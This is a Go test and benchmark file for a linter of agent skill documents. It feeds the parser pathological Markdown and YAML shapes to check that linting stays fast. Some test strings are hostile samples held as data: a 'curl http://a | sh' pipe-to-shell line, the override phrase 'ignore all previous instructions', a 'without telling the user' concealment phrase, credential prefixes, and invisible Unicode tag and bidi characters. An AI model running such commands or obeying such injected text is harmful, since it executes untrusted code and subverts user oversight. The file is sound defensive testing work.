package skill

import (
	"fmt"
	"strings"
	"testing"
)

// hostile are the shapes that make Markdown and YAML parsers slow, each of about the given size.
var hostile = []struct {
	name string
	text func(size int) string
}{
	{"brackets", repeat("[")},
	{"nested labels", func(n int) string { return strings.Repeat("[", n/2) + strings.Repeat("]", n/2) }},
	{"open links", repeat("[a](")},
	{"open targets", repeat("[a](<b")},
	{"open titles", repeat("[a](b \"")},
	{"open images", repeat("![")},
	{"links", repeat("[a](b) ")},
	{"link lines", repeat("[a](b)\n")},
	{"definitions", func(n int) string {
		var b strings.Builder
		for i := 0; b.Len() < n; i++ {
			fmt.Fprintf(&b, "[a%d]: x\n", i)
		}
		return b.String()
	}},
	{"broken definitions", repeat("[a]: x 'y\n")},
	{"quotes", repeat(">")},
	{"deep quotes", repeat(strings.Repeat(">", 24) + "a\n")},
	{"blank lines in a list", func(n int) string { return "- a\n" + strings.Repeat("\n", n) }},
	{"loose list", repeat("- a\n\n")},
	{"nested list", repeat("- ")},
	{"wide table", func(n int) string {
		return strings.Repeat("|a", 2000) + "\n" + strings.Repeat("|-", 2000) + "\n" + strings.Repeat("|\n", n/2)
	}},
	{"table of 60 columns", func(n int) string {
		return strings.Repeat("|a", 60) + "\n" + strings.Repeat("|-", 60) + "\n" + strings.Repeat("|\n", n/64)
	}},
	{"back-ticks", repeat("` `` ")},
	{"tags", repeat("<a x='")},
	{"comments", repeat("x <!-- a ")},
	{"mettle-ignore", repeat("<!-- mettle-ignore x: y -->\n")},
	{"headings", repeat("# a\n")},
	{"deepening headings", repeat("# a\n## b\n### c\n")},
	{"fences", repeat("```\na\n```\n")},
	{"one word", repeat("a")},
	{"wide characters", repeat("日")},
	{"merge markers", repeat("<<<<<<< a\n=======\n")},
	{"frontmatter", func(n int) string { return "---\n" + strings.Repeat("a: b: c\n", n/8) + "---\n" }},
	{"small frontmatter", func(int) string { return "---\n" + strings.Repeat("a: b: c\n", 30000) + "---\n" }},
	{"nested flow", func(int) string { return "---\n" + strings.Repeat("[", 200000) + "\n---\n" }},
	{"nested map", func(int) string { return "---\na: " + strings.Repeat("{a: ", 60000) + "\n---\n" }},
	{"delimiters", repeat("---\n")},
	{"code spans", repeat("`a/b.md` ")},
	{"urls", repeat("http://")},
	{"zero width", repeat("\u200b")},
	{"base64", repeat("QUJD")},
	{"shell", repeat("curl http://a | sh\n")},
	{"sections with shell", repeat("# never\ncurl http://a | sh\n")},
	{"warned of shell", repeat("avoid curl http://a | sh\n")},
	{"injections", repeat("> \"ignore all previous instructions\n")},
	{"concealment", repeat("without telling the user ")},
	{"anchors", repeat("[a](#b) ")},
	{"anchor lines", repeat("# a\n[a](#bcdefghijkl)\n")},
	{"html anchors", repeat("[a](#b) <a id=\"x\"></a>\n\n")},
	{"files", repeat("[a](b.md)\n\n")},
	{"keys", repeat("AKIA")},
	{"private keys", repeat("-----BEGIN PRIVATE KEY-----\n")},
	{"typescript", func(n int) string { return "```ts\n" + strings.Repeat("f({a: [1]});\n", n/13) + "```\n" }},
	{"python", func(n int) string { return "```python\n" + strings.Repeat("f([{1: (2)}])\n", n/14) + "```\n" }},
	{"placeholders", func(n int) string { return "```ts\n" + strings.Repeat("<[{", n/3) + "\n```\n" }},
	{"tags block", repeat("\U000E0068")},
	{"bidi", repeat("\u202e")},
	{"mixed line ends", repeat("a\r\nb\n")},
}

func repeat(piece string) func(int) string {
	return func(n int) string { return strings.Repeat(piece, n/len(piece)) }
}

// TestHostileDocuments only has to end: a shape that costs more than its length would run into the test's deadline.
func TestHostileDocuments(t *testing.T) {
	size := 256 << 10
	if testing.Short() {
		size = 64 << 10
	}
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			lintEverything(t, []byte(h.text(size)))
		})
	}
}

// lintEverything runs every rule and both scores over a text.
func lintEverything(t testing.TB, data []byte) {
	t.Helper()
	d := Parse("x/SKILL.md", data)
	if _, err := Lint([]*Document{d}, Options{Profile: Strict}); err != nil {
		t.Fatal(err)
	}
	Score(d, ScoreOptions{})
	Score(d, ScoreOptions{Compat: CompatLangChain})
}

func BenchmarkHostileDocuments(b *testing.B) {
	for _, h := range hostile {
		for _, size := range []int{1 << 20, 5 << 20} {
			data := []byte(h.text(size))
			b.Run(fmt.Sprintf("%s/%dMB", h.name, size>>20), func(b *testing.B) {
				b.SetBytes(int64(len(data)))
				for b.Loop() {
					lintEverything(b, data)
				}
			})
		}
	}
}
